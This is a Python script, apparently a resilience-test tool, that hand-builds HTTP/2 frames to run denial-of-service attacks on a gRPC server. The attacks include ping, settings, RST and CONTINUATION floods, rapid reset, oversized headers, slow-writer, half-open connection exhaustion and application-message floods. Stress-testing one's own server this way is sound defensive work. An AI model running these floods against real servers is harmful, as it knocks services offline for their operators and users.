#!/usr/bin/python3
"""Who means harm, over plain sockets: HTTP/2 frames made by hand.

attack.py KIND --server HOST:PORT --dir DIR [--seconds N]

With a client certificate from DIR (agent.pem, agent-key.pem), but for
"half-open".  Ends when the server ends the connection, or after --seconds of
trying; prints one line of JSON: what was sent and how it ended.
"""

import argparse
import socket
import ssl
import struct
import threading
import time

import peer

pb = None
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONT = \
    range(10)
CHUNK = 200                     # frames in one write


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + \
        bytes((kind, flags)) + struct.pack("!I", stream) + payload


def literal(name, value):
    """An HPACK field that is in no table and goes into none."""
    def text(b):
        if len(b) < 127:
            return bytes((len(b),)) + b
        n, out = len(b) - 127, b"\x7f"
        while n > 0x7f:
            out += bytes((n & 0x7f | 0x80,))
            n >>= 7
        return out + bytes((n,)) + b
    return b"\x00" + text(name) + text(value)


def request(path, extra=b""):
    return literal(b":method", b"POST") + literal(b":scheme", b"https") + \
        literal(b":path", path.encode()) + literal(b":authority", b"x") + \
        literal(b"content-type", b"application/grpc") + \
        literal(b"te", b"trailers") + extra


def grpc(message):
    return b"\x00" + struct.pack("!I", len(message)) + message


class Connection:
    """Reads in a thread of its own (unless it is not to read at all), counts
    windows, and knows how the server ended it."""

    def __init__(self, args, reads=True):
        host, port = args.server.rsplit(":", 1)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        ctx.load_cert_chain(args.dir + "/agent.pem",
                            args.dir + "/agent-key.pem")
        sock = socket.create_connection((host, int(port)), timeout=5)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock = ctx.wrap_socket(sock)
        self.end = time.monotonic() + args.seconds
        self.sent = 0           # frames
        self.how = None         # ended by the server
        self.window = {0: 65535}
        self.initial = 65535
        self.status = {}
        self.cond = threading.Condition()
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        # Reading and writing go on at the same time, each with a time-out.
        self.sock.settimeout(0.2 if reads else 2)
        self.lock = threading.Lock()
        if reads:
            threading.Thread(target=self.read, daemon=True).start()

    def over(self):
        return self.how is not None or time.monotonic() > self.end

    def ended(self, how):
        with self.cond:
            if self.how is None:
                self.how = how
            self.cond.notify_all()

    def read(self):
        data = b""
        while True:
            try:
                with self.lock:
                    self.sock.settimeout(0.01)
                    piece = self.sock.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                time.sleep(0.005)
                continue
            except OSError as error:
                return self.ended("reset: %s" % error)
            if not piece:
                return self.ended("eof")
            data += piece
            while len(data) >= 9:
                length = int.from_bytes(data[:3], "big")
                if len(data) < 9 + length:
                    break
                self.got(data[3], data[4],
                         int.from_bytes(data[5:9], "big") & 0x7fffffff,
                         data[9:9 + length])
                data = data[9 + length:]

    def got(self, kind, flags, stream, body):
        if kind == GOAWAY:
            code, = struct.unpack("!I", body[4:8])
            self.ended("goaway %d %s" % (
                code, body[8:].decode("ascii", "replace")))
        elif kind == WINDOW:
            with self.cond:
                self.window[stream] = self.window.get(
                    stream, self.initial) + int.from_bytes(body, "big")
                self.cond.notify_all()
        elif kind in (RST, HEADERS):
            with self.cond:
                if kind == RST or flags & 1:
                    self.status[stream] = body
                self.cond.notify_all()

    def send(self, data, frames=1):
        """False: the server has ended it, or takes nothing any more."""
        view = memoryview(data)
        while view and not self.over():
            try:
                with self.lock:
                    self.sock.settimeout(0.5)
                    n = self.sock.send(view)
                view = view[n:]
            except (TimeoutError, ssl.SSLWantWriteError):
                continue
            except OSError as error:
                self.ended("reset: %s" % error)
        if view:
            return False
        self.sent += frames
        return not self.over()

    def repeat(self, data, frames=CHUNK):
        while self.send(data * frames, frames):
            pass

    def open(self, path, stream=1):
        self.send(frame(HEADERS, 4, stream, request(path)))

    def message(self, stream, data):
        """DATA within the windows."""
        while data:
            with self.cond:
                while not self.over() and stream not in self.status and min(
                        self.window[0], self.window.setdefault(
                            stream, self.initial)) <= 0:
                    self.cond.wait(0.2)
                if self.over() or stream in self.status:
                    return False
                n = min(self.window[0], self.window[stream], 16384,
                        len(data))
                self.window[0] -= n
                self.window[stream] -= n
            if not self.send(frame(DATA, 0, stream, data[:n])):
                return False
            data = data[n:]
        return True

    def finish(self):
        # The last word may be on its way.
        limit = time.monotonic() + 1
        with self.cond:
            while self.how is None and time.monotonic() < limit:
                self.cond.wait(0.1)
        return dict(frames=self.sent, how=self.how or "still open",
                    streams=len(self.status))


# --- what an enrolled agent can do with frames --------------------------------

def ping_flood(c):
    c.repeat(frame(PING, 0, 0, b"12345678"))


def settings_flood(c):
    c.repeat(frame(SETTINGS, 0, 0))


def priority_flood(c):
    c.repeat(frame(PRIORITY, 0, 3, struct.pack("!IB", 0, 1)))


def window_flood(c):
    c.open(peer.CHANNEL)
    c.repeat(frame(WINDOW, 0, 1, struct.pack("!I", 1)))


def empty_data(c):
    c.open(peer.CHANNEL)
    c.repeat(frame(DATA, 0, 1))


def rst_flood(c):
    c.open(peer.CHANNEL)
    c.repeat(frame(RST, 0, 1, struct.pack("!I", 8)))


def rapid_reset(c):
    stream = 1
    head = request(peer.CHANNEL)
    while True:
        data = b""
        for _ in range(CHUNK):
            data += frame(HEADERS, 4, stream, head) + \
                frame(RST, 0, stream, struct.pack("!I", 8))
            stream += 2
        if not c.send(data, 2 * CHUNK):
            return


def big_headers(c):
    extra = b"".join(literal(b"x-%d" % i, b"v" * 1000) for i in range(100))
    block = request(peer.CHANNEL, extra)
    c.send(frame(HEADERS, 0, 1, block[:16384]))
    for at in range(16384, len(block), 16384):
        last = at + 16384 >= len(block)
        c.send(frame(CONT, 4 if last else 0, 1, block[at:at + 16384]))


def continuation(c):
    c.send(frame(HEADERS, 0, 1, request(peer.CHANNEL)))
    c.repeat(frame(CONT, 0, 1, literal(b"x", b"y")))


def stalled_reader(c):
    """Asks for answers and takes none."""
    c.repeat(frame(PING, 0, 0, b"12345678"))


def slow_writer(c):
    """A request that comes byte by byte."""
    c.open(peer.REPORT)
    for _ in range(10000):
        if not c.send(frame(DATA, 0, 1, b"\x00")):
            return
        time.sleep(0.02)


# --- and with messages --------------------------------------------------------

def begin(c, args):
    """ReportState and Channel, as every agent."""
    host = peer.read(args.dir + "/host-id").decode().strip()
    c.open(peer.REPORT)
    report = pb.StateReport(host_id=host, agent_version="attack",
                            supported_features=["list", "journal-ack"])
    c.message(1, grpc(report.SerializeToString()))
    c.send(frame(DATA, 1, 1))
    with c.cond:
        while not c.over() and 1 not in c.status:
            c.cond.wait(0.1)
    c.open(peer.CHANNEL, 3)
    return host


def repeat_message(c, make):
    n = 0
    while c.message(3, b"".join(
            grpc(pb.AgentMessage(**make(n + i)).SerializeToString())
            for i in range(50))):
        n += 50
    return n


def empty_items(c, args):
    begin(c, args)
    # ContainerList (field 2) of as many empty ContainerInfo (field 2) as fit.
    body = b"\x12\x00" * 2000000
    c.message(3, grpc(peer.field(2, body)))


def list_flood(c, args):
    begin(c, args)
    infos = [pb.ContainerInfo(id="%064x" % i, name="c%d" % i, image="i:1",
                              state="running") for i in range(200)]
    repeat_message(c, lambda n: dict(container_list=pb.ContainerList(
        containers=infos)))


def journal_flood(c, args):
    begin(c, args)
    repeat_message(c, lambda n: dict(offline_journal=pb.OfflineJournal(
        entries=[pb.JournalEntry(id="a%d-%d" % (n, i), action="update",
                                 container="web", outcome="success",
                                 error="x" * 200) for i in range(20)])))


def renewal_flood(c, args):
    begin(c, args)
    key = args.dir + "/flood-key.pem"
    peer.make_key(key)
    csr = peer.make_csr(key, "flood")
    repeat_message(c, lambda n: dict(cert_renewal=pb.CertRenewalCSR(csr=csr)))


def result_flood(c, args):
    begin(c, args)
    repeat_message(c, lambda n: dict(update_result=pb.UpdateResult(
        request_id="%016x" % n, container_name="web", outcome="success",
        error="x" * 500)))


def beat_flood(c, args):
    host = begin(c, args)
    repeat_message(c, lambda n: dict(heartbeat=pb.Heartbeat(
        host_id=host, agent_version="v%d" % n)))


# --- without a certificate ------------------------------------------------------

def half_open(args):
    """Connections that never say a word, from many addresses."""
    host, port = args.server.rsplit(":", 1)
    socks = []
    refused = 0
    for i in range(args.count):
        s = socket.socket()
        s.setblocking(False)
        s.bind(("127.0.%d.%d" % (1 + i // 6400, 1 + i // 50 % 128), 0))
        try:
            s.connect((host, int(port)))
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
        socks.append(s)
    time.sleep(args.seconds)
    ended = 0
    for s in socks:
        try:
            ended += s.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            ended += 1
    peer.say("over", connections=len(socks), refused=refused, ended=ended)
    return 0


FRAMES = dict((f.__name__.replace("_", "-"), f) for f in (
    ping_flood, settings_flood, priority_flood, window_flood, empty_data,
    rst_flood, rapid_reset, big_headers, continuation, stalled_reader,
    slow_writer))
MESSAGES = dict((f.__name__.replace("_", "-"), f) for f in (
    empty_items, list_flood, journal_flood, renewal_flood, result_flood,
    beat_flood))


def main():
    global pb
    p = argparse.ArgumentParser()
    p.add_argument("kind", choices=sorted(FRAMES) + sorted(MESSAGES) +
                   ["half-open"])
    p.add_argument("--server", required=True)
    p.add_argument("--dir")
    p.add_argument("--seconds", type=float, default=3)
    p.add_argument("--count", type=int, default=2000)
    args = p.parse_args()
    if args.kind == "half-open":
        return half_open(args)
    try:
        c = Connection(args, reads=args.kind != "stalled-reader")
        if args.kind in FRAMES:
            FRAMES[args.kind](c)
        else:
            pb = peer.messages()
            c.end = time.monotonic() + args.seconds
            MESSAGES[args.kind](c, args)
    except OSError as error:
        peer.say("over", frames=0, how="no connection: %s" % error)
        return 1
    peer.say("over", **c.finish())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
